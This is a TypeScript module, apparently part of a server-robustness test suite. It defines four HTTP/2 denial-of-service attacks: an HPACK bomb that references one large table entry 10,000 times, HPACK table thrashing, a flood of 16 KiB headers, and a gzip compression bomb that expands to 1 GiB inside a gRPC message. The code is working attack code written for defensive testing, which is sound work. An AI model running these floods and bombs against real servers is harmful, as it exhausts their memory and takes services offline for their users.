/** Attacks by header blocks, and by what is inside of messages. */
import { RawPeer, rawBlock, rawData, rawFlags, rawFrame, rawHeaders } from '../raw-http2-peer.ts';
import { attackMs, compressionBomb, ending, flood, type ServerAttack } from './attack.ts';
import { requestHead } from './attacker-request.ts';

const id = (index: number): number => index * 2 + 1;

/** A literal that enters the table, with a name and a value of these sizes. */
function indexed(name: string, value: string): Buffer {
  const literal = rawBlock([[name, value]]);
  literal[0] = 0x40;
  return literal;
}

export const headerAttacks: readonly ServerAttack[] = [
  {
    name: 'HPACK bomb: a large entry, named 10 000 times',
    ends: 'none',
    async run(port) {
      using peer = await RawPeer.client(port);
      const entry = Buffer.concat([rawBlock(requestHead), indexed('x-bomb', 'b'.repeat(3_900))]);
      peer.send(rawFrame('HEADERS', rawFlags.END_HEADERS | rawFlags.END_STREAM, 1, entry));
      // 62 is the newest entry of the dynamic table: 10 000 bytes stand for 39 MB.
      const bomb = Buffer.concat([rawBlock(requestHead), Buffer.alloc(10_000, 0x80 | 62)]);
      for (let stream = 1; stream <= 100; stream++) {
        peer.send(rawFrame('HEADERS', rawFlags.END_HEADERS | rawFlags.END_STREAM, id(stream), bomb));
      }
      return await ending(peer);
    },
  },
  {
    name: 'HPACK table thrash: every block replaces the table',
    ends: 'none',
    async run(port) {
      using peer = await RawPeer.client(port);
      return await flood(
        peer,
        (round) => {
          const fields = Array.from({ length: 60 }, (_, index) => indexed(`x-${round}-${index}`, 'v'));
          const block = Buffer.concat([rawBlock(requestHead), ...fields]);
          return rawFrame('HEADERS', rawFlags.END_HEADERS | rawFlags.END_STREAM, id(round), block);
        },
        4_194_304,
      );
    },
  },
  {
    name: 'headers of 16 KiB on every stream',
    ends: 'none',
    async run(port) {
      using peer = await RawPeer.client(port);
      const large = [...requestHead, ['x-large', 'l'.repeat(16_000)]] as const;
      return await flood(peer, (round) => rawHeaders(id(round), large, rawFlags.END_STREAM), 16_777_216);
    },
  },
  {
    name: 'compression bomb: 1 GiB in a message of 1 MiB',
    ends: 'none',
    async run(port) {
      using peer = await RawPeer.client(port);
      const bomb = compressionBomb();
      const prefix = Buffer.alloc(5);
      prefix[0] = 1;
      prefix.writeUInt32BE(bomb.length, 1);
      peer.send(rawHeaders(1, [...requestHead, ['grpc-encoding', 'gzip']]));
      const message = Buffer.concat([prefix, bomb]);
      for (let start = 0; start < message.length; start += 16_384) {
        peer.send(rawData(1, message.subarray(start, start + 16_384)));
      }
      return await ending(peer, attackMs);
    },
  },
];
